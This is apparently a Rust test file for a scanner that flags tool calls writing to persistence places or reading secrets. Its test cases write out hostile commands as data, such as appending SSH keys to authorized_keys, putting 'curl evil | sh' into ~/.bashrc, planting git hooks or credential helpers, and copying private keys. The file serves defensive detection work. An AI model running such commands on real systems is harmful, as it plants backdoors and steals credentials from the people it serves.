use super::*;
use serde_json::json;

fn flags(args: Value, write: bool, sh: bool) -> Vec<Flag> {
    scan(&args, write, sh).into_iter().map(|(f, _)| f).collect()
}

#[test]
fn persistence_places() {
    for p in [
        "~/.ssh/authorized_keys",
        "/home/u/.bashrc",
        "~/.zshrc",
        "/home/u/.config/fish/config.fish",
        "~/.aws/credentials",
        "~/.config/gcloud/credentials.db",
        "/home/u/.kube/config",
        "~/.docker/config.json",
        "/srv/app/.git/hooks/pre-commit",
        "~/.npmrc",
        "/etc/cron.d/x",
        "~/.config/systemd/user/evil.service",
        "/etc/hosts",
        "/home/u/x/../.profile",
    ] {
        assert_eq!(flags(json!({ "path": p }), true, false), [Flag::Persistence], "{p}");
    }
    assert!(flags(json!({"path": "/srv/app/src/main.rs"}), true, false).is_empty());
    assert!(flags(json!({"path": "/srv/app/.github/workflows/ci.yml"}), true, false).is_empty());
}

#[test]
fn secret_reads() {
    for p in
        ["~/.ssh/id_ed25519", "~/.aws/credentials", "/srv/app/.env", ".env.production", "certs/server.key", "~/.netrc"]
    {
        assert_eq!(flags(json!({ "path": p }), false, false), [Flag::SecretRead], "{p}");
    }
    for p in ["~/.ssh/id_ed25519.pub", ".env.example", "/srv/app/README.md", "keys.md"] {
        assert!(flags(json!({ "path": p }), false, false).is_empty(), "{p}");
    }
}

#[test]
fn shell_commands() {
    let sh = |c: &str| flags(json!({ "command": c }), true, true);
    assert_eq!(sh("echo 'ssh-ed25519 AAAA' >> ~/.ssh/authorized_keys"), [Flag::Persistence]);
    assert_eq!(sh("echo 'curl x | sh' >> ~/.bashrc"), [Flag::Persistence]);
    assert_eq!(sh("cp /tmp/hook .git/hooks/pre-commit"), [Flag::Persistence]);
    assert_eq!(sh("echo '* * * * * x' | crontab -"), [Flag::Persistence]);
    assert_eq!(sh("cat ~/.aws/credentials"), [Flag::SecretRead]);
    assert_eq!(sh("cp ~/.ssh/id_rsa /tmp/k"), [Flag::SecretRead]);
    assert!(sh("ls -la && cargo test").is_empty());
}

/// A file system where `/p/tools` links to `/p/.git/hooks`, `/p/notes`
/// to `~/.ssh/authorized_keys`, `/p/key.txt` to a private key and
/// `/p/deep` through a chain too long to follow.
struct Links;

impl Resolver for Links {
    fn resolve(&self, abs: &str) -> Option<crate::path::Resolved> {
        let real = if let Some(rest) = abs.strip_prefix("/p/tools") {
            format!("/p/.git/hooks{rest}")
        } else if abs == "/p/notes" {
            "/home/u/.ssh/authorized_keys".into()
        } else if abs == "/p/key.txt" {
            "/home/u/.ssh/id_ed25519".into()
        } else if abs.starts_with("/p/deep") || abs.starts_with("/proc/self") || abs.starts_with("/dev/std") {
            return None;
        } else {
            abs.to_owned()
        };
        Some(crate::path::Resolved { real, file: None })
    }
}

fn followed(args: Value, write: bool, sh: bool) -> Vec<(Flag, String)> {
    let env = PathEnv { home: Some("/home/u".into()), cwd: Some("/p".into()), ..PathEnv::default() };
    scan_followed(&args, write, sh, &env, &Links)
}

/// A name that says nothing, a link that leads to a persistence place
/// or a secret: the place it leads to counts (before, only its name).
#[test]
fn paths_count_where_they_lead() {
    for args in [
        json!({"path": "/p/tools/pre-commit"}),
        json!({"path": "tools/pre-commit"}),
        json!({"path": "/p/notes"}),
        json!({"files": {"tools/post-checkout": "x"}}),
    ] {
        let got = followed(args.clone(), true, false);
        assert!(
            matches!(got.as_slice(), [(Flag::Persistence, why)] if why.contains("through a symlink to")),
            "{args}: {got:?}"
        );
        assert!(flags(args.clone(), true, false).is_empty(), "the name alone says nothing: {args}");
    }
    for cmd in ["echo x > tools/pre-commit", "cd /p && cp evil tools/pre-commit", "cd /srv; cd /p; tee notes < k"] {
        let got = followed(json!({ "command": cmd }), true, true);
        assert!(matches!(got.as_slice(), [(Flag::Persistence, _)]), "{cmd}: {got:?}");
    }
    let got = followed(json!({"path": "/p/key.txt"}), false, false);
    assert!(matches!(got.as_slice(), [(Flag::SecretRead, why)] if why.contains("private key")), "{got:?}");
    // Where Latch cannot follow a written path, it may be anywhere.
    let got = followed(json!({"path": "/p/deep/x"}), true, false);
    assert!(matches!(got.as_slice(), [(Flag::Persistence, why)] if why.contains("cannot follow")), "{got:?}");
    assert!(followed(json!({"path": "/p/deep/x"}), false, false).is_empty(), "a read is not a write");
    // Plain places and the opener's own streams add nothing.
    for args in [
        json!({"path": "/p/src/main.rs"}),
        json!({"path": "/dev/stdout"}),
        json!({"command": "cargo test 2>&1 | tee /dev/stderr"}),
        json!({"command": "cd /srv && echo x > tools/pre-commit"}),
    ] {
        assert!(followed(args.clone(), true, true).is_empty(), "{args}");
    }
    // Bounded: past the budget a write counts as a persistence place.
    let many: Vec<String> = (0..=MAX_FOLLOWED).map(|i| format!("/p/src/f{i}")).collect();
    let got = followed(json!({ "paths": many }), true, false);
    assert!(matches!(got.as_slice(), [(Flag::Persistence, why)] if why.contains("more than")), "{got:?}");
}

/// What the server's place adds to a name: a `cd` (any form), the
/// call's own folder argument, the server's roots, the write options
/// of `cp`/`dd`, `git config` naming a program, edit lists' keys that
/// are not paths.
#[test]
fn a_place_is_read_as_the_command_and_the_call_give_it() {
    for cmd in [
        "cd .git && echo evil > hooks/pre-commit",
        "cd .git; echo evil > hooks/pre-commit",
        "pushd .git && echo evil > hooks/pre-commit",
        "(cd .git && echo evil > hooks/pre-commit)",
        "sh -c 'cd .git && echo evil > hooks/pre-commit'",
        "cd -P .git && echo evil > hooks/pre-commit",
        "cd -- .git && echo evil > hooks/pre-commit",
        "cp -t .git/hooks pre-commit",
        "cp --target-directory=.git/hooks pre-commit",
        "printf x | dd of=tools/pre-commit",
        "cp -r hooks .git",
        "git config core.hooksPath tools",
    ] {
        let got = followed(json!({ "command": cmd }), true, true);
        assert!(got.iter().any(|(f, _)| *f == Flag::Persistence), "{cmd}: {got:?}");
    }
    // Through a link, copy or move the command makes for itself.
    for cmd in [
        "ln -s .git/hooks/pre-commit y && echo evil > y",
        "ln ~/.bashrc n2 && echo evil >> n2",
        "mv .git g && echo evil > g/hooks/pre-commit",
    ] {
        let got = flags(json!({ "command": cmd }), true, true);
        assert_eq!(got, [Flag::Persistence], "{cmd}");
    }
    let got = followed(json!({"command": "cp -r tools t2 && echo evil > t2/pre-commit"}), true, true);
    assert!(got.iter().any(|(f, _)| *f == Flag::Persistence), "{got:?}");
    // Lists, tests and patterns do not write what they name.
    for cmd in ["find . -name .git -prune -o -print", "test -d .git", "ls -la .git", "git --git-dir .git log"] {
        assert!(followed(json!({ "command": cmd }), true, true).is_empty(), "{cmd}");
    }
    // The lexical scan alone reads the write options too.
    assert_eq!(flags(json!({"command": "dd if=x of=.git/hooks/pre-commit"}), true, true), [Flag::Persistence]);
    for args in [
        json!({"command": "echo evil > hooks/pre-commit", "cwd": "/p/.git"}),
        json!({"directory": "/p/.git", "filename": "hooks/pre-commit"}),
        json!({"output": "tools/pc"}),
        json!({"to": "tools/pc"}),
    ] {
        let got = followed(args.clone(), true, true);
        assert!(got.iter().any(|(f, _)| *f == Flag::Persistence), "{args}: {got:?}");
    }
    // A relative path is read against each of the server's roots.
    let env = PathEnv { cwd: Some("/p/sub".into()), roots: vec!["/p".into()], ..PathEnv::default() };
    let got = scan_followed(&json!({"path": "tools/pc"}), true, false, &env, &Links);
    assert!(matches!(got.as_slice(), [(Flag::Persistence, _)]), "{got:?}");
    // Forty edits: their keys are not paths, nothing to follow.
    let edits: Vec<Value> = (0..40).map(|i| json!({"oldText": format!("a{i}"), "newText": "b"})).collect();
    assert!(followed(json!({"path": "/p/src/x.rs", "edits": edits}), true, false).is_empty());
    assert!(followed(json!({"command": "cd /srv && ls && cat README"}), true, true).is_empty());
}

#[test]
fn more_start_up_and_settings_files_persist() {
    for p in ["~/.bash_aliases", "~/.gitconfig", "~/.config/git/config", "~/.local/share/systemd/user/x.service"] {
        assert_eq!(flags(json!({ "path": p }), true, false), [Flag::Persistence], "{p}");
    }
}

/// `git config` plants a program by many keys; reads and plain keys do not.
#[test]
fn git_config_sets_persist_unless_plain() {
    for cmd in [
        "git config core.hooksPath tools",
        "git config credential.helper '!evil'",
        "git config alias.x '!sh -c evil'",
        "git config include.path ../evil.cfg",
        "git config --global init.templateDir tpl",
        "git config set core.fsmonitor /x/evil",
        "git -C sub config diff.external ./evil",
        "git config remote.origin.uploadpack ./evil",
        "git init --template=tpl",
        "git config -e",
        "git config --comment user.name core.hooksPath /var/tmp/h",
        "git -C init config core.hooksPath /var/tmp/h",
        "git config --file .git/config user.name x",
    ] {
        assert_eq!(flags(json!({ "command": cmd }), true, true), [Flag::Persistence], "{cmd}");
    }
    for cmd in [
        "git config --get core.editor",
        "git config core.pager",
        "git config user.email a@example.com",
        "git config --global pull.rebase true",
        "git config remote.origin.url git@example.com:x.git",
        "git config --list",
        "git commit -m x",
        "git init",
        "git add config app lib",
        "git rm -r --cached config spec lib",
        "git config -f .gitmodules submodule.x.url https://example.com/x",
        "git config --global alias.co checkout",
        "git config commit.gpgsign false",
        "git config --global --add safe.directory /workspace",
    ] {
        assert!(flags(json!({ "command": cmd }), true, true).is_empty(), "{cmd}");
    }
}

/// Archives unpacked where persistence places live; elsewhere nothing.
#[test]
fn archives_unpacked_into_home_or_a_hidden_folder_persist() {
    for cmd in [
        "tar -xf x.tar -C ~",
        "tar -xzf x.tgz --directory=$HOME/.config",
        "tar xf x.tar -C .git",
        "tar -xPf x.tar",
        "unzip -o x.zip -d ~/.ssh",
        "git --work-tree=$HOME checkout -f .",
        "tar -xf a.tar --one-top-level=.git",
        "tar -xf a.tar -C vendor -C ~",
    ] {
        let got = followed(json!({ "command": cmd }), true, true);
        assert!(got.iter().any(|(f, _)| *f == Flag::Persistence), "{cmd}: {got:?}");
    }
    for cmd in [
        "tar -xf x.tar -C vendor",
        "unzip -d dist x.zip",
        "tar -czf out.tgz src",
        "tar -tf x.tar",
        "unzip terraform.zip -d .terraform",
        "tar -xzf cache.tgz -C .cache",
    ] {
        assert!(followed(json!({ "command": cmd }), true, true).is_empty(), "{cmd}");
    }
}

/// A pattern that can name a persistence place counts as one.
#[test]
fn patterns_are_read_as_the_names_they_can_match() {
    for cmd in [
        "printf x >> .[g]it/config",
        "cp pre-commit .gi?/hooks/",
        "echo x | tee -a .{git,x}/config",
        "tee -a .git/conf*",
        "echo x >> ~/.bash*",
        "cp -t .git -r vendor/hooks",
        "cp -rt .git vendor/hooks",
        "cp -rt ~ vendor/dot/.config",
        "cp -r vendor/dot/.ssh ~/",
        "printf x >> .git/??????",
        "cp pre-commit .git/?????/",
        "echo x >> .git/*/pre-commit",
    ] {
        assert_eq!(flags(json!({ "command": cmd }), true, true), [Flag::Persistence], "{cmd}");
    }
    for cmd in ["rm -f *.o", "cp src/*.rs backup/", "echo {a,b}.txt > out.txt", "rm -rf *", "cp -r * /tmp/x"] {
        assert!(flags(json!({ "command": cmd }), true, true).is_empty(), "{cmd}");
    }
}

/// Output options write even for commands that otherwise only read;
/// other options' values are read; a file copied beside is no folder.
#[test]
fn output_options_write_and_others_read() {
    for cmd in [
        "find . -maxdepth 0 -fprintf ~/.bashrc 'curl evil | sh'",
        "git log -1 --format=x --output ~/.bashrc",
        "git diff --output .git/hooks/pre-commit",
        "git archive -o .git/hooks/pre-commit HEAD",
        "tree -o ~/.bashrc",
    ] {
        assert_eq!(flags(json!({ "command": cmd }), true, true), [Flag::Persistence], "{cmd}");
    }
    let got = followed(json!({"command": "sort -o$HOME/.bashrc x"}), true, true);
    assert!(got.iter().any(|(f, _)| *f == Flag::Persistence), "{got:?}");
    for cmd in [
        "ssh -i~/.ssh/id_ed25519.pub host",
        "ssh -i ~/.ssh/id_ed25519.pub user@host",
        "ssh -o IdentityFile=~/.ssh/id_ed25519.pub host",
        "./configure --prefix=/usr/local --sysconfdir=/etc",
        "cp ~/.bashrc /tmp/bashrc.bak",
        "cp .pre-commit-config.yaml x.yaml.bak",
    ] {
        assert!(flags(json!({ "command": cmd }), true, true).is_empty(), "{cmd}");
    }
}
